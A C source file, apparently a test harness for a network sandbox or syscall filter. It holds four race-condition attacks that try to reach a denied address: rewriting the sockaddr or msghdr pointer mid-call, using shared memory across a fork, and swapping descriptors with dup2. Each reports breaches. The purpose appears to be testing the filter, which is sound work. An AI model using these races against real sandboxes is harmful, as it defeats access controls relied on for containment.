#include "attack.h"

enum {
	TRIES = 20000, // of an attack that does not succeed
	MUCH_LONGER = 20, // seconds after which one that does not succeed gives up
};

static struct sockaddr_in *address; // what is given to the call, and rewritten meanwhile

static void *rewrite(void *unused) {
	volatile struct sockaddr_in *to = address;
	for (;;) {
		to->sin_addr = allowed.sin_addr;
		to->sin_addr = denied.sin_addr;
	}
	return unused;
}

static void start(void *(*f)(void *)) {
	pthread_t thread;
	if (pthread_create(&thread, NULL, f, NULL)) errx(1, "pthread_create");
}

// reached tells whether a socket is connected to the denied address, and if so makes the server see it.
static int reached(int fd) {
	struct sockaddr_in peer;
	socklen_t size = sizeof peer;
	if (getpeername(fd, (struct sockaddr *)&peer, &size) || !is(&peer, &denied)) return 0;
	if (send(fd, "x", 1, MSG_NOSIGNAL) < 0) warn("send to the denied server");
	return 1;
}

static void report(const char *name, int passed, int refusals, int breaches) {
	printf("%s: passed %d refused %d breached %d\n", name, passed, refusals, breaches);
	fflush(stdout);
}

// connect_often connects one UDP socket again and again to what address holds.
static void connect_often(const char *name) {
	int fd = udp(), passed = 0, refusals = 0;
	for (int i = 0; i < TRIES || passed == 0 || refusals == 0 || until_breach; i++) {
		if (elapsed() > MUCH_LONGER) break;
		if (connect(fd, (struct sockaddr *)address, sizeof *address)) {
			if (refused()) refusals++;
			continue;
		}
		passed++;
		if (reached(fd)) {
			report(name, passed, refusals, 1);
			return;
		}
	}
	report(name, passed, refusals, 0);
}

// A thread of the caller's rewrites the address while the call is under way.
void race_thread(void) {
	static struct sockaddr_in memory;
	memory = allowed;
	address = &memory;
	start(rewrite);
	connect_often("race-thread");
}

// Another process does, through memory that both share.
void race_memory(void) {
	address = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (address == MAP_FAILED) err(1, "mmap");
	*address = allowed;
	pid_t peer = fork();
	if (peer < 0) err(1, "fork");
	if (peer == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		rewrite(NULL);
	}
	connect_often("race-memory");
	kill(peer, SIGKILL);
	waitpid(peer, NULL, 0);
}

// What is rewritten is not the address but the header that points to it.
static struct msghdr *header;

static void *redirect(void *unused) {
	volatile struct msghdr *to = header;
	for (;;) {
		to->msg_name = &allowed;
		to->msg_name = &denied;
	}
	return unused;
}

void race_message(void) {
	static struct msghdr memory;
	static struct iovec data = {"x", 1};
	int fd = udp(), passed = 0, refusals = 0, breaches = 0;
	memory = (struct msghdr){.msg_name = &allowed, .msg_namelen = sizeof allowed, .msg_iov = &data, .msg_iovlen = 1};
	header = &memory;
	start(redirect);
	for (int i = 0; (i < TRIES / 4 || passed == 0 || refusals == 0 || until_breach) && !breaches; i++) {
		if (elapsed() > MUCH_LONGER) break;
		if (sendmsg(fd, header, 0) < 0) {
			if (refused()) refusals++;
		} else {
			passed++;
		}
		char answer[64];
		struct sockaddr_in from;
		socklen_t size = sizeof from;
		while (recvfrom(fd, answer, sizeof answer, MSG_DONTWAIT, (struct sockaddr *)&from, &size) >= 0) breaches += is(&from, &denied);
	}
	report("race-message", passed, refusals, breaches);
}

// The denied address may be reached by UDP, and not by TCP: what is changed meanwhile is which socket the descriptor is.
static int slot, by_udp, by_tcp;

static void *exchange(void *unused) {
	for (;;) {
		dup2(by_udp, slot);
		dup2(by_tcp, slot);
	}
	return unused;
}

void race_descriptor(void) {
	int passed = 0, refusals = 0, breaches = 0;
	by_udp = udp();
	by_tcp = tcp(SOCK_NONBLOCK);
	slot = dup(by_udp);
	start(exchange);
	for (int i = 0; (i < TRIES || passed == 0 || refusals == 0 || until_breach) && !breaches; i++) {
		if (elapsed() > MUCH_LONGER) break;
		if (connect(slot, (struct sockaddr *)&denied, sizeof denied) && errno != EINPROGRESS) {
			if (refused()) refusals++;
			continue;
		}
		passed++;
		// A connection of the other socket is the breach.
		struct pollfd p = {.fd = by_tcp, .events = POLLOUT};
		if (poll(&p, 1, 0) > 0) breaches += reached(by_tcp);
	}
	report("race-descriptor", passed, refusals, breaches);
}
